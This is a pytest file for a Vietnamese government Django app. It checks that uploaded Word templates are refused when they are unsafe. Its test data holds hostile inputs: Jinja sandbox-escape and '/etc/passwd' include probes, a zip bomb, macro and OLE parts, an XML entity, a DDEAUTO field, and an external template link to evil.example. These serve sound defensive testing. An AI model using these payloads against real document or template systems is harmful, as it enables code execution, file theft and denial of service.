"""A Word template is code from outside: only fields, conditions and loops over known lists; everything else is refused by name."""

import io
import zipfile
from collections.abc import Callable

import pytest
from django.test import Client
from docx import Document
from tests.province import Ward

from lienthong.domain.declarations import services
from lienthong.domain.declarations.models import WordTemplate
from lienthong.domain.declarations.services import Head
from lienthong.domain.declarations.word import shape_of
from lienthong.domain.eforms import queries as eforms
from lienthong.domain.eforms.models import Form
from lienthong.foundation.accounts import queries as account_queries
from lienthong.foundation.accounts import services as accounts
from lienthong.foundation.accounts.models import Account
from lienthong.foundation.organizations import services as organizations
from lienthong.kit import clock
from lienthong.kit.actor import SYSTEM, Actor
from lienthong.kit.errors import NotAllowed
from lienthong.kit.word import DocumentRefused
from lienthong.kit.word.checking import check_template

BIRTH = "1.001193"


def docx(*lines: str) -> bytes:
    document = Document()
    for line in lines:
        document.add_paragraph(line)
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def with_part(
    content: bytes, name: str, text: bytes, *, also: Callable[[str, bytes], bytes] = lambda _, text: text
) -> bytes:
    """The same file with one more part; `also` may change the others."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for entry in old.infolist():
            if entry.filename != name:
                new.writestr(entry.filename, also(entry.filename, old.read(entry)))
        new.writestr(name, text)
    return out.getvalue()


def words(content: bytes) -> str:
    document = Document(io.BytesIO(content))
    cells = [cell.text for table in document.tables for row in table.rows for cell in row.cells]
    return "\n".join([paragraph.text for paragraph in document.paragraphs] + cells)


@pytest.fixture
def form(ward: Ward) -> Form:
    return eforms.current_form(BIRTH)


@pytest.fixture
def keeper(ward: Ward) -> Actor:
    account = accounts.create_officer(
        actor=SYSTEM,
        username="quan-tri",
        full_name="Lê Thị Quản Trị",
        password="mat-khau-quan-tri-2026",
        email="qt@gialai.gov.vn",
    )
    organizations.appoint(
        actor=SYSTEM,
        account_id=account.pk,
        agency_id=ward.agency_id,
        title="Quản trị",
        roles=["administrator"],
        valid_from=clock.today(),
    )
    return account_queries.actor_for(account)


def head() -> Head:
    return Head(
        reference="H21.01-261126-0001",
        code="H21.01-261126-0001",
        to="Ủy ban nhân dân phường Pleiku",
        place="Pleiku",
        day=clock.today(),
        applicant="Siu H'Ngan <b>&",
        verified="đã xác thực bằng VNeID",
    )


def test_it_works_with_the_template_to_begin_with(form: Form, keeper: Actor) -> None:
    starting = services.starting_docx(form_code=BIRTH)
    template = services.keep_template(actor=keeper, form_code=BIRTH, name="mau.docx", content=starting)
    assert {"child_name", "nguoi_khai", "ma_qr"} <= set(template.fields)
    filled = services.declaration_docx(
        head=head(),
        procedure="Đăng ký khai sinh",
        form=form,
        answers={"child_name": "Siu Bảo An", "child_gender": "Nam"},
    )
    text = words(filled)
    for expected in ("TỜ KHAI ĐĂNG KÝ KHAI SINH", "Siu Bảo An", "Siu H'Ngan <b>&", "(đã xác thực bằng VNeID)"):
        assert expected in text
    assert "{{" not in text
    with zipfile.ZipFile(io.BytesIO(filled)) as archive:
        assert any(name.startswith("word/media/") for name in archive.namelist())
    trial = services.trial_docx(form_code=BIRTH)
    assert trial is not None
    assert "[Họ, chữ đệm, tên của trẻ]" in words(trial)


def test_a_new_template_takes_the_place_of_the_old_one(keeper: Actor, ward: Ward) -> None:
    for line in ("{{ nguoi_khai }}", "Trẻ: {{ child_name | upper }}"):
        services.keep_template(actor=keeper, form_code=BIRTH, name="mau.docx", content=docx(line))
    assert WordTemplate.objects.filter(retired_at__isnull=True).get().fields == ["child_name"]
    assert WordTemplate.objects.count() == 2
    with pytest.raises(NotAllowed):
        services.keep_template(actor=ward.one_stop, form_code=BIRTH, name="mau.docx", content=docx("{{ nguoi_khai }}"))


@pytest.mark.parametrize(
    ("line", "said"),
    [
        ("{{ chlid_name }}", "Không có trường “chlid_name”"),
        ("{{ chlid_name }}", "Có phải: child_name"),
        ("{{ child_name.__class__ }}", "child_name.__class__"),
        ("{{ ''.__class__.__mro__ }}", "__class__"),
        ("{{ lipsum.__globals__ }}", "lipsum"),
        ("{{ cycler(1) }}", "Call"),
        ("{{ child_name | attr('x') }}", "Filter"),
        ("{% for x in range(9) %}{{ x }}{% endfor %}", "Call"),
        ("{% for x in child_name %}{{ x }}{% endfor %}", "không phải danh sách"),
        ("{% for a in giay_to %}{% for b in giay_to %}{{ b }}{% endfor %}{% endfor %}", "For"),
        ("{% set x = child_name %}{{ x }}", "Assign"),
        ("{% include '/etc/passwd' %}", "Include"),
        ("{% macro m() %}x{% endmacro %}", "Macro"),
        ("{{ 9 ** 999999 }}", "Pow"),
        ("{{ child_name", "cú pháp"),
        ("Không có trường nào", "chưa có trường nào"),
    ],
)
def test_what_is_no_field_is_refused_by_name(form: Form, line: str, said: str) -> None:
    with pytest.raises(DocumentRefused) as refused:
        check_template(docx(line), shape_of(form))
    assert any(said in problem for problem in refused.value.problems), refused.value.problems


def bomb() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/document.xml", b" " * (25 * 1024 * 1024))
    return out.getvalue()


def external(name: str, text: bytes) -> bytes:
    if name != "word/_rels/document.xml.rels":
        return text
    link = b'<Relationship Id="rId99" Type="http://x/attachedTemplate" Target="http://evil.example/t.dotm" TargetMode="External"/>'
    return text.replace(b"</Relationships>", link + b"</Relationships>")


FIELD = docx("{{ nguoi_khai }}")


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (b"", "không phải tài liệu Word"),
        (b"MZ" + b"x" * 500, "không phải tài liệu Word"),
        (b"PK\x03\x04" + b"x" * 500, "không phải tài liệu Word"),
        (bomb(), "mở ra quá lớn"),
        (b"x" * (3 * 1024 * 1024), "lớn hơn 2 MB"),
        (with_part(FIELD, "word/vbaProject.bin", b"x"), "macro"),
        (with_part(FIELD, "word/embeddings/oleObject1.bin", b"x"), "nhúng đối tượng khác"),
        (with_part(FIELD, "word/x.txt", b"x", also=external), "http://evil.example/t.dotm"),
        (
            with_part(FIELD, "word/settings.xml", b'<!DOCTYPE a [<!ENTITY x "y">]><a>&x;</a>'),
            "hỏng hoặc có khai báo lạ",
        ),
        (with_part(FIELD, "docProps/core.xml", b"<a>{{ nguoi_khai }}</a>"), "không điền được"),
        (docx("{{ nguoi_khai }} DDEAUTO c:\\\\windows"), "tự lấy dữ liệu"),
    ],
)
def test_what_is_no_template_is_refused_in_words(form: Form, content: bytes, said: str) -> None:
    with pytest.raises(DocumentRefused) as refused:
        check_template(content, shape_of(form))
    assert any(said in problem for problem in refused.value.problems), refused.value.problems


def test_the_page_tells_everything_that_is_wrong_and_keeps_the_one_in_use(client: Client, keeper: Actor) -> None:
    services.keep_template(actor=keeper, form_code=BIRTH, name="mau.docx", content=FIELD)
    client.force_login(Account.objects.get(pk=keeper.account_id), backend="django.contrib.auth.backends.ModelBackend")
    url = f"/lam-viec/mau-word/{BIRTH}/"
    wrong = io.BytesIO(docx("{{ a_sai }} {{ b_sai }}"))
    wrong.name = "mau.docx"
    page = client.post(url, {"template": wrong})
    assert page.status_code == 422
    assert "2 điểm cần sửa" in page.content.decode()
    assert "a_sai" in page.content.decode()
    assert WordTemplate.objects.filter(retired_at__isnull=True).count() == 1
    assert "Đang dùng" in client.get("/lam-viec/mau-word/").content.decode()
    for name in ("khoi-dau", "dang-dung", "dien-thu"):
        answer = client.get(f"{url}{name}.docx")
        assert answer.status_code == 200
        assert (b"".join(answer.streaming_content) if answer.streaming else answer.content).startswith(b"PK")
    right = io.BytesIO(services.starting_docx(form_code=BIRTH))
    right.name = "mau.docx"
    assert client.post(url, {"template": right}).status_code == 302
    client.post(url, {"retire": "1"})
    assert WordTemplate.objects.filter(retired_at__isnull=True).count() == 0
